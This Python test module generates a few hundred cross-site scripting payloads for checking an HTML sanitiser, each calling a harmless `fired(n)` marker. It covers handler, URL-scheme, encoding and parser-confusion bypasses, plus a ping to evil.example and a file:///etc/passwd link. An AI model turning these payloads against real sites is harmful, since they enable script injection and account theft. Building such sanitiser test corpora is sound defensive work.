"""Markup that runs a script if a browser shows it unsanitised, at least in some browsers.

`§` stands for the script, `№` for its number.
"""

from __future__ import annotations

from itertools import product

HANDLERS = """
onabort onafterprint onanimationend onanimationiteration onanimationstart onauxclick onbeforecopy onbeforecut
onbeforeinput onbeforematch onbeforepaste onbeforetoggle onblur oncancel oncanplay oncanplaythrough onchange onclick
onclose oncontextmenu oncopy oncuechange oncut ondblclick ondrag ondragend ondragenter ondragleave ondragover
ondragstart ondrop ondurationchange onemptied onended onerror onfocus onfocusin onfocusout onformdata onfullscreenchange
ongotpointercapture oninput oninvalid onkeydown onkeypress onkeyup onload onloadeddata onloadedmetadata onloadstart
onlostpointercapture onmousedown onmouseenter onmouseleave onmousemove onmouseout onmouseover onmouseup onmousewheel
onpaste onpause onplay onplaying onpointercancel onpointerdown onpointerenter onpointerleave onpointermove onpointerout
onpointerover onpointerrawupdate onpointerup onprogress onratechange onreset onresize onscroll onscrollend
onsecuritypolicyviolation onseeked onseeking onselect onselectionchange onselectstart onslotchange onstalled onsubmit
onsuspend ontimeupdate ontoggle ontouchcancel ontouchend ontouchmove ontouchstart ontransitioncancel ontransitionend
ontransitionrun ontransitionstart onvolumechange onwaiting onwebkitanimationend onwebkittransitionend onwheel
"""

ELEMENTS = r"""
<img src=x onerror=§>
<img src onerror=§>
<image src=x onerror=§>
<img src=x oNeRrOr=§>
<img/src=x/onerror=§>
<img src=x onerror=§//
<img src=`x` onerror=§>
<img src="x"onerror="§">
<img src=x:x onerror=§ lang=x>
<img srcset=x onerror=§>
<img srcset="x, y 2x" src=z onerror=§>
<img src=x alt='"><script>§</script>' onerror=§>
<picture><source srcset=x><img src=y onerror=§></picture>
<img data-src="javascript:§" src="data:," onerror=§>
<svg onload=§>
<svg/onload=§>
<svg onload=§><p>x
<svg><script>§</script></svg>
<svg><script href="data:text/javascript,§"></script></svg>
<svg><script xlink:href="data:text/javascript,§"></script></svg>
<svg><a href="javascript:§"><text y=20>x</text></a></svg>
<svg><a xlink:href="javascript:§"><text y=20>x</text></a></svg>
<svg><animate onbegin=§ attributeName=x dur=1s></svg>
<svg><set onbegin=§ attributeName=x dur=1s></svg>
<svg><a><animate attributeName=href values="javascript:§" /><text y=20>x</text></a></svg>
<svg><foreignObject><img src=x onerror=§></foreignObject></svg>
<svg><foreignObject><body onload=§></foreignObject></svg>
<svg><desc><img src=x onerror=§></desc></svg>
<svg><title><img src=x onerror=§></title></svg>
<svg><image href=x onerror=§></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href=1 onerror=§ /></svg>#x">
<svg><style><img src=x onerror=§></style></svg>
<svg><style>&lt;img src=x onerror=§&gt;</style></svg>
<svg></p><img src=x onerror=§>
<svg><p><style><g title="</style><img src=x onerror=§>"></svg>
<svg><style><g title="</style><img src=x onerror=§>"></style></svg>
<svg><![CDATA[><img src=x onerror=§>]]></svg>
<svg><![CDATA[</svg><img src=x onerror=§>]]>
<math><mtext><img src=x onerror=§></mtext></math>
<math href="javascript:§">x</math>
<math><maction actiontype="statusline#x" xlink:href="javascript:§">x</maction></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=§&gt;">
<math><mtext><table><mglyph><style><math><img src=x onerror=§></style></table></mtext></math>
<math><annotation-xml encoding="text/html"><img src=x onerror=§></annotation-xml></math>
<math><annotation-xml encoding="text/html"><svg><style><img src=x onerror=§></style></svg></annotation-xml></math>
<math><mi><b><style><img src=x onerror=§></style></b></mi></math>
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=§>
<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=§ src>">
<svg></p><style><a id="</style><img src=x onerror=§>">
<svg></br><style><a title="</style><img src=x onerror=§>">
<math></p><style><!--</style><img src/onerror=§>--></style></math>
<table><td><svg><desc><td><img src=x onerror=§></table>
<table><caption><svg><title><table><img src=x onerror=§>
<select><img src=x onerror=§></select>
<select><option><style></option></select><img src=x onerror=§></style>
<select><template><img src=x onerror=§></template></select>
<table><img src=x onerror=§></table>
<table background="javascript:§"><tr><td><img src=x onerror=§>
<frameset onload=§></frameset>
<frameset><frame src="javascript:top.§"></frameset>
<body onload=§>
<body onpageshow=§>
<body background=x onhashchange=§>
<html onclick=§><p>x
<script>§</script>
<script >§</script >
<SCRIPT>§</SCRIPT>
<script/x>§</script>
<script\t>§</script\n>
<script type=module>§</script>
<script type="text/javascript" src="data:text/javascript,§"></script>
<script src=data:,§></script>
<script>§//
<script><!--§\n--></script>
<scr<script>ipt>§</scr</script>ipt>
<<script>§//<</script>
<script>`${§}`</script>
<script>[§]</script>
<script x="</script><img src=x onerror=§>">§</script>
<script>/*</script><img src=x onerror=§>*/</script>
<noscript><p title="</noscript><img src=x onerror=§>"></noscript>
<noscript><img src=x onerror=§></noscript>
<noscript><style></noscript><img src=x onerror=§></style>
<noscript>&lt;/noscript&gt;&lt;img src=x onerror=§&gt;</noscript>
<noembed><p title="</noembed><img src=x onerror=§>"></noembed>
<noframes><p title="</noframes><img src=x onerror=§>"></noframes>
<xmp><p title="</xmp><img src=x onerror=§>"></xmp>
<iframe><p title="</iframe><img src=x onerror=§>"></iframe>
<plaintext></plaintext><img src=x onerror=§>
<textarea><img title="</textarea><img src=x onerror=§>"></textarea>
<title><img title="</title><img src=x onerror=§>"></title>
<style><img title="</style><img src=x onerror=§>"></style>
<style>@import "javascript:§"; x{y:expression(§)}</style><img src=x onerror=§>
<style>*{background:url("javascript:§")}</style><div style="width:expression(§)" onclick=§>x
<style>@keyframes x{from{left:0}to{left:9px}}</style><p style="animation:x 1ms" onanimationstart=§>x
<p style="transition:1s" ontransitionend=§ style=x>x
<template><script>§</script></template>
<template><img src=x onerror=§></template><p onclick=§>x
<template shadowrootmode=open><img src=x onerror=§></template>
<div><template shadowrootmode=open><script>§</script></template></div>
<div><template shadowrootmode=closed><slot onslotchange=§></slot></template>x</div>
<!--><img src=x onerror=§>-->
<!---><img src=x onerror=§>-->
<!-- --!><img src=x onerror=§> -->
<!-- x --><img src=x onerror=§>
<!--[if gte IE 4]><script>§</script><![endif]--><p onclick=§>x
<!--<img title="--><img src=x onerror=§>">
<!--<!--><img src=x onerror=§>
<![CDATA[><img src=x onerror=§>]]>
<?xml version="1.0"?><img src=x onerror=§>
<?php "><img src=x onerror=§> ?>
<!DOCTYPE x [<!ENTITY y "<img src=x onerror=§>">]><p onclick=§>&y;
</><img src=x onerror=§>
</p onclick=§><p onclick=§>x</p>
<x><img src=x onerror=§></x>
<x onclick=§>x</x>
<x:script xmlns:x="http://www.w3.org/1999/xhtml">§</x:script><p onclick=§>x
<a title='"><img src=x onerror=§>' onclick=§>x</a>
<a title="'&quot;&gt;&lt;img src=x onerror=§&gt;" onclick=§>x</a>
<p title="x" onclick="§" title="y">x</p>
<p onclick=§ onclick=x>x</p>
<p/onclick=§/title=x>x</p>
<p title=x"onclick=§>x</p><p onclick=§>x
<p ="onclick" onclick=§>x</p>
<p "onclick=§" onclick=§>x</p>
<p \x00onclick=§ onclick=§>x</p>
<p\x0conclick=§>x</p>
<img src=x on\x00error=§ onerror=§>
<im\x00g src=x onerror=§><img src=x onerror=§>
<scr\x00ipt>§</scr\x00ipt><script>§</script>
<img src=x onerror\x0b=§ onerror=§>
<img src=x onerror="&#74;&#x4A;;§">
<img src=x onerror="&#102;&#105;red(№)">
<img src=x onerror=&#x66;ired(№)>
<img src=x onerror="\\u0066ired(№)">
<img src=x onerror="window['fi'+'red'](№)">
<img src=x onerror=`${§}`>
<img src=x onerror=[№].map(fired)>
<img src=x onerror="setTimeout`§`;§">
<img src=x onerror="eval('§')">
<img src=x onerror="eval(atob('ZmlyZWQo')+'№)')">
<img src=x onerror="Function('§')()">
<img src=x onerror="import('data:text/javascript,top.§')"><p onclick=§>x
<a href="javascript:§">x</a>
<a href=javascript:§>x</a>
<a href="JaVaScRiPt:§">x</a>
<a href=" javascript:§">x</a>
<a href="\x01javascript:§">x</a>
<a href="\x1fjavascript:§">x</a>
<a href="java\tscript:§">x</a>
<a href="java\nscript:§">x</a>
<a href="java\rscript:§">x</a>
<a href="java&Tab;script:§">x</a>
<a href="java&NewLine;script:§">x</a>
<a href="jav&#x09;ascript&colon;§">x</a>
<a href="javascript&#58;§">x</a>
<a href="javascript&#x3a;§">x</a>
<a href="javascript&#0058§">x</a>
<a href="&#106;avascript:§">x</a>
<a href="&#x6A&#x61vascript:§">x</a>
<a href="javascript://x%0a§">x</a>
<a href="javascript://news.example/%0A§">x</a>
<a href="javascript:'<script>§</script>';§">x</a>
<a href="javascript:void(§)" target=_self rel=opener>x</a>
<a href=x href="javascript:§" onclick=§>x</a>
<a href="data:text/html,<script>top.§</script>" onclick=§>x</a>
<a href="data:text/html;base64,PHNjcmlwdD4=" onclick=§>x</a>
<a href="vbscript:§" onclick=§>x</a>
<a href="livescript:§" onclick=§>x</a>
<a href="blob:§" onclick=§>x</a>
<a href="feed:javascript:§" onclick=§>x</a>
<a href="view-source:javascript:§" onclick=§>x</a>
<a href="file:///etc/passwd" onclick=§>x</a>
<a href="x" ping="https://evil.example/" onclick=§>x</a>
<a href="x" style="position:fixed;inset:0" onmouseover=§>x</a>
<map name=m><area href="javascript:§" shape=default></map>
<map name=m><area shape=rect coords=0,0,9,9 href="javascript:§"></map><img usemap="#m" src=x onerror=§>
<iframe src="javascript:top.§"></iframe>
<iframe srcdoc="<script>top.§</script>"></iframe>
<iframe srcdoc="&lt;img src=x onerror=top.§&gt;"></iframe>
<iframe src="data:text/html,<script>fired(№)</script>"></iframe>
<iframe src=about:blank onload=§></iframe>
<iframe srcdoc="" onload=§ sandbox></iframe>
<object data="javascript:top.§" onerror=§></object>
<object data="data:text/html,<script>fired(№)</script>"></object>
<object onerror=§ data=x:></object>
<object type=x><img src=x onerror=§></object>
<embed src="javascript:top.§" onload=§>
<embed src="data:text/html,<script>fired(№)</script>">
<applet onerror=§ code=x><img src=x onerror=§></applet>
<video src=x onerror=§></video>
<video><source onerror=§ src=x></video>
<video poster=x onloadstart=§ src=x></video>
<audio src=x onerror=§></audio>
<audio src onloadstart=§></audio>
<track onerror=§ src=x><img src=x onerror=§>
<details open ontoggle=§>x</details>
<details onclick=§><summary>x</summary></details>
<dialog open onclose=§ onclick=§>x</dialog>
<div popover id=x onbeforetoggle=§ onclick=§>x</div><button popovertarget=x>x</button>
<input autofocus onfocus=§>
<input onblur=§ autofocus><input autofocus onfocus=§>
<input type=image src=x onerror=§>
<input type=image src=x onload=§ onerror=§>
<input type=hidden oncontentvisibilityautostatechange=§ style=content-visibility:auto onclick=§>
<textarea autofocus onfocus=§></textarea>
<select autofocus onfocus=§></select>
<button autofocus onfocus=§>x</button>
<button onclick=§>x</button>
<button form=f formaction="javascript:§">x</button><form id=f></form>
<form action="javascript:§"><button>x</button></form>
<form action="javascript:§"><input type=submit></form>
<form><button formaction="javascript:§">x</button></form>
<form><input type=submit formaction="javascript:§"></form>
<form><input type=image formaction="javascript:§" src=x onerror=§></form>
<form onsubmit=§><button>x</button></form>
<form onformdata=§><button>x</button></form>
<keygen autofocus onfocus=§><img src=x onerror=§>
<isindex type=image src=x onerror=§><img src=x onerror=§>
<marquee onstart=§>x</marquee>
<marquee behavior=alternate width=1 loop=1 onbounce=§ onstart=§>x</marquee>
<bgsound src="javascript:§" onerror=§><p onclick=§>x
<meta http-equiv=refresh content="0;url=javascript:§"><p onclick=§>x
<meta http-equiv=refresh content="0;url=data:text/html,<script>fired(№)</script>"><p onclick=§>x
<meta http-equiv=Content-Security-Policy content="default-src *"><img src=x onerror=§>
<meta charset=utf-7>+ADw-img src=x onerror=§+AD4-<img src=x onerror=§>
<meta charset=iso-2022-jp>\x1b(J<img src=x onerror=§>
<base href="javascript:/§/"><a href="//%0a§" onclick=§>x</a>
<base href="data:text/javascript,"><script src="§"></script>
<base target="<script>§</script>"><a href=x onclick=§>x</a>
<link rel=stylesheet href=x onerror=§>
<link rel=stylesheet href="data:text/css,x" onload=§>
<link rel=import href="data:text/html,x" onerror=§><img src=x onerror=§>
<link rel=preload as=script href="data:text/javascript,§" onload=§>
<link rel=modulepreload href="data:text/javascript,§"><img src=x onerror=§>
<blockquote cite="javascript:§" onclick=§>x</blockquote>
<q cite="javascript:§" onclick=§>x</q>
<del cite="javascript:§" onclick=§>x</del>
<p id=location name=documentElement onclick=§>x</p>
<form name=body id=attributes onclick=§><input name=attributes><input name=parentNode></form>
<form id=x onclick=§></form><form id=x name=y><input id=innerHTML name=nodeName></form>
<img name=getElementById src=x onerror=§>
<a id=fired onclick=§></a><a id=fired name=x href="javascript:§">x</a>
<p contenteditable onfocus=§ tabindex=1 autofocus>x</p>
<p tabindex=1 onfocus=§ id=x autofocus>x</p>
<p accesskey=x onclick=§>x</p>
<p is=x-y onclick=§>x</p>
<p slot=x part=y onclick=§>x</p>
<p style="background:url(javascript:§)" onclick=§>x</p>
<p style="-moz-binding:url(x)" onclick=§>x</p>
<font color="red" onclick=§>x</font>
<center onclick=§>x</center>
<div dir=ltr lang='x" onclick="§' onclick=§>x</div>
<time datetime='"><img src=x onerror=§>' onclick=§>x</time>
<ol start='1"onclick=§' onclick=§><li>x</ol>
<td colspan=1 onclick=§>x</td><table><td onclick=§>x
<img width="1%" onerror=§ src=x height='"><script>§</script>'>
<ruby><rt><img src=x onerror=§></ruby>
<p><b><i></p><img src=x onerror=§></b></i>
<b><p></b><img src=x onerror=§>
<a><div><a href="javascript:§">x
<li><li><li></ul></ol><img src=x onerror=§>
"><img src=x onerror=§>
'><script>§</script>
--><img src=x onerror=§>
]]><img src=x onerror=§>
</script><script>§</script>
</style></title></textarea><img src=x onerror=§>
</body></html><img src=x onerror=§>
\ufeff<img src=x onerror=§>
\u2028<script>§</script>
\ud800<img src=x onerror=§>
"""
"""A payload a line, with Python's escapes."""

_RAW = ("style", "xmp", "iframe", "noembed", "noframes", "textarea", "title")
_INNER = ("img src=x onerror=§", "svg onload=§", "script>§</script")
_DEEP = 300


def payloads() -> list[str]:
    """Markup whose script, if it runs, calls `fired` with its place in the list."""
    found = [line.encode("raw_unicode_escape").decode("unicode_escape") for line in ELEMENTS.strip().split("\n")]
    found += [f"<p {handler}=§>x</p>" for handler in HANDLERS.split()]
    found += [f"<{tag}><a title='</{tag}><{inner}>'>" for tag, inner in product(_RAW, _INNER)]
    found += ["<div>" * _DEEP + "<img src=x onerror=§>", "<b><p>" * 40 + "<img src=x onerror=§>"]
    found += [f"<p {' '.join(f'a{each}=1' for each in range(600))} onclick=§>x</p>"]
    return [text.replace("§", "fired(№)").replace("№", str(number)) for number, text in enumerate(found)]
